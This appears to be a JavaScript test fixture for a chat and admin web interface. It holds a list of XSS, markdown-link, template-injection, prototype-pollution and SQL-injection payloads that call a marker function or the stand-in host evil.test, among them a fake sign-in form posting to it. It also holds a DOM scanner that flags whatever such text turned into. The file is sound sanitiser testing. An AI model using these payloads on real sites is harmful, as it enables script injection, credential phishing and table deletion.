// A hundred texts that want to be more than text. What runs calls pwned() (tests/lib/browser.mjs
// listens); what is fetched asks evil.test, which is nobody's friend. Harmless outside a browser.
const run = (n) => `pwned('${n}')`;
const EVIL = 'http://evil.test';

const markup = [
  `<script>${run('script')}</script>`,
  `<script src="${EVIL}/x.js"></script>`,
  `<SCRIPT/x>${run('odd script')}</SCRIPT>`,
  `<scr<script>ipt>${run('split')}</scr</script>ipt>`,
  `"><script>${run('quote')}</script>`,
  `'-${run('js string')}-'`,
  `</textarea></title></style><script>${run('closers')}</script>`,
  `<img src=x onerror="${run('img')}">`,
  `<img src="${EVIL}/pixel.gif">`,
  `<img/src/onerror=${run('slashes')}>`,
  `<img src=x onerror=&#112;wned('entity')>`,
  `<image src=x onerror="${run('image')}">`,
  `<img srcset="${EVIL}/a 1x, ${EVIL}/b 2x">`,
  `<svg onload="${run('svg')}">`,
  `<svg><script>${run('svg script')}</script></svg>`,
  `<svg><animate onbegin="${run('animate')}" attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run('xlink')}"><text y=20>click</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${run('foreign')}</script>"></iframe></foreignObject></svg>`,
  `<svg><use href="${EVIL}/x.svg#a"/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img src=x onerror="${run('mutation')}">`,
  `<iframe src="javascript:parent.${run('iframe')}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run('srcdoc')}</script>"></iframe>`,
  `<iframe src="${EVIL}/"></iframe>`,
  `<object data="javascript:${run('object')}"></object>`,
  `<embed src="${EVIL}/x.swf">`,
  `<link rel=stylesheet href="${EVIL}/x.css">`,
  `<style>@import '${EVIL}/y.css'; * { display: none !important }</style>`,
  `<div style="position:fixed;inset:0;background:url(${EVIL}/bg)">over everything</div>`,
  `<base href="${EVIL}/">`,
  `<meta http-equiv=refresh content="0;url=${EVIL}/">`,
  `<form action="${EVIL}/"><input name=password><button>Sign in again</button></form>`,
  `<input autofocus onfocus="${run('focus')}">`,
  `<details open ontoggle="${run('toggle')}">`,
  `<video src="${EVIL}/v.mp4" onerror="${run('video')}" autoplay>`,
  `<audio src=x onerror="${run('audio')}">`,
  `<body onload="${run('body')}">`,
  `<marquee onstart="${run('marquee')}">move</marquee>`,
  `<a href="javascript:${run('a')}">click me</a>`,
  `<template><script>${run('template')}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run('noscript')}>">`,
  `<!--><img src=x onerror="${run('comment')}">-->`,
  `<![CDATA[<script>${run('cdata')}</script>]]>`,
  `<?xml version="1.0"?><x onclick="${run('xml')}">x</x>`,
  `<xss style="animation-name:x" onanimationstart="${run('animation')}"></xss>`,
  `&lt;script&gt;${run('double')}&lt;/script&gt;`,
  `\\u003cscript\\u003e${run('escape')}\\u003c/script\\u003e`,
  `%3Cscript%3E${run('percent')}%3C/script%3E`,
  `<dialog open><button onclick="${run('dialog')}">Agree</button></dialog>`,
];

const markdown = [
  `[click](javascript:${run('md')})`,
  `[click](JaVaScRiPt:${run('case')})`,
  `[click](javascript&colon;${run('colon')})`,
  `[click](&#106;avascript:${run('entity link')})`,
  `[click](java\tscript:${run('tab')})`,
  `[click]( javascript:${run('blank')})`,
  `[click](<javascript:${run('angle')}>)`,
  `[click](javascript://%0a${run('newline')})`,
  `[click](vbscript:msgbox(1))`,
  `[click](data:text/html,<script>${run('data')}</script>)`,
  `[click](data:text/html;base64,PHNjcmlwdD5wd25lZCgnYmFzZTY0Jyk8L3NjcmlwdD4=)`,
  `[click](file:///etc/passwd) [click](blob:${EVIL}/1) [click](filesystem:${EVIL}/1)`,
  `[click](//evil.test/protocol-relative) [click](/admin/) [click](../admin/)`,
  `[x](http://a.test "onmouseover=${run('title')}")`,
  `[x](http://a.test" onmouseover="${run('attribute')})`,
  `[a]: javascript:${run('reference')}\n[a] [click][a]`,
  `<javascript:${run('autolink')}>`,
  `<${EVIL}/autolink> ${EVIL}/bare www.evil.test evil@evil.test`,
  `![pixel](${EVIL}/markdown.gif)`,
  `![x](x"onerror="${run('alt')})`,
  `[![nested](${EVIL}/nested.gif)](javascript:${run('nested image')})`,
  `![x](data:image/svg+xml,<svg onload=${run('svg image')}>)`,
  '```html\n<script>' + run('fence') + '</script>\n```',
  '`<img src=x onerror=' + run('code') + '>`',
  `| a | b |\n|---|---|\n| <script>${run('table')}</script> | ![](${EVIL}/cell.gif) |`,
  `# <img src=x onerror=${run('heading')}>`,
  `> <svg onload=${run('quote block')}>`,
  `- <iframe src=${EVIL}/list></iframe>`,
  `**<script>${run('bold')}</script>** _<img src=x onerror=${run('italic')}>_ ~~<b onclick=${run('strike')}>x</b>~~`,
  '$$\\href{javascript:' + run('tex') + '}{x}$$ $\\unicode{<img src=x onerror=' + run('tex2') + '>}$',
];

const odd = [
  `{{constructor.constructor('${run('template').replaceAll("'", '"')}')()}}`,
  '${' + run('literal') + '} #{' + run('ruby') + '} <%= ' + run('erb') + ' %> {% x %} [[x]]',
  `{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}`,
  `__proto__`,
  `constructor[prototype][polluted]=1`,
  `'; drop table public.messages; --`,
  `\u202Etxt.exe gnp.\u202C \u2066isolated\u2069 \u200Fright \u061C to left \u202D`,
  `\u05E9\u05DC\u05D5\u05DD \u0645\u0631\u062D\u0628\u0627 (a) [b] <c> 123`,
  'Z' + '\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030A\u0311\u0312'.repeat(30) + 'algo',
  '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466} \u{1F3F3}\uFE0F\u200D\u{1F308} \u{1F1E9}\u{1F1EA} \u{1F44D}\u{1F3FD} \u2764\uFE0F'.repeat(10),
  '\u200B\u200C\u200D\uFEFF\u2060 invisible \u00AD\u180E',
  'W'.repeat(3000),
  'long-' + 'http://a.test/' + 'x'.repeat(1500),
  '> '.repeat(1000) + 'deep quotes',
  Array.from({ length: 60 }, (_, i) => `${' '.repeat(i * 2)}- level ${i}`).join('\n'),
  '- '.repeat(1000) + 'deep list',
  '['.repeat(2000) + ']('.repeat(1000),
  '`'.repeat(3000) + 'x' + '`'.repeat(2999),
  '*'.repeat(2000) + 'x' + '_'.repeat(2000),
  '| a '.repeat(500) + '|\n' + '|---'.repeat(500) + '|',
  '\n'.repeat(200) + 'many lines' + '\n'.repeat(200) + '.',
  '\u0085\u2028\u2029 odd line ends \u00A0\u3000 and blanks',
  '\uFFFD\uFFFE \u{10FFFF} \uE000 nobody assigned these',
];

export const PAYLOADS = [...markup, ...markdown, ...odd];

// What the server refuses; the pages have to say so kindly.
export const REFUSED = ['null \u0000 byte', 'bell \u0007 and escape \u001b[31m'];

// Everything in `frame` (the chat or the admin) that a text could have become. All empty when harmless.
export const strangers = (frame) => frame.evaluate(() => {
  const found = [];
  const walk = (root) => {
    for (const element of root.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        if (/^on/i.test(name)) found.push(`${element.tagName} ${name}`);
        if (/^(href|src|action|formaction|xlink:href|data|srcset|poster)$/i.test(name)) {
          const url = new URL(value.split(' ')[0] || '#', document.baseURI);
          const link = element.tagName === 'A' || element.tagName === 'AREA';
          if (link ? !/^(https?|mailto|tel):$/.test(url.protocol) : url.origin !== location.origin && url.protocol !== 'data:') {
            found.push(`${element.tagName} ${name}=${value.slice(0, 80)}`);
          }
          if (link && /^http/.test(url.protocol) && url.origin !== location.origin && !/noopener|noreferrer/.test(element.rel)) found.push(`no rel: ${value.slice(0, 80)}`);
        }
      }
      if (/^(SCRIPT|IFRAME|OBJECT|EMBED|LINK|META|BASE|STYLE|FORM|VIDEO|AUDIO|MARQUEE|FRAME|MATH|TEMPLATE)$/.test(element.tagName) && element.closest('[role=log], table, [role=grid], [role=article], article')) {
        found.push(element.outerHTML.slice(0, 120));
      }
      if (element.shadowRoot) walk(element.shadowRoot);
    }
  };
  walk(document);
  if ({}.polluted !== undefined) found.push('the prototype of objects has been polluted');
  return found;
});
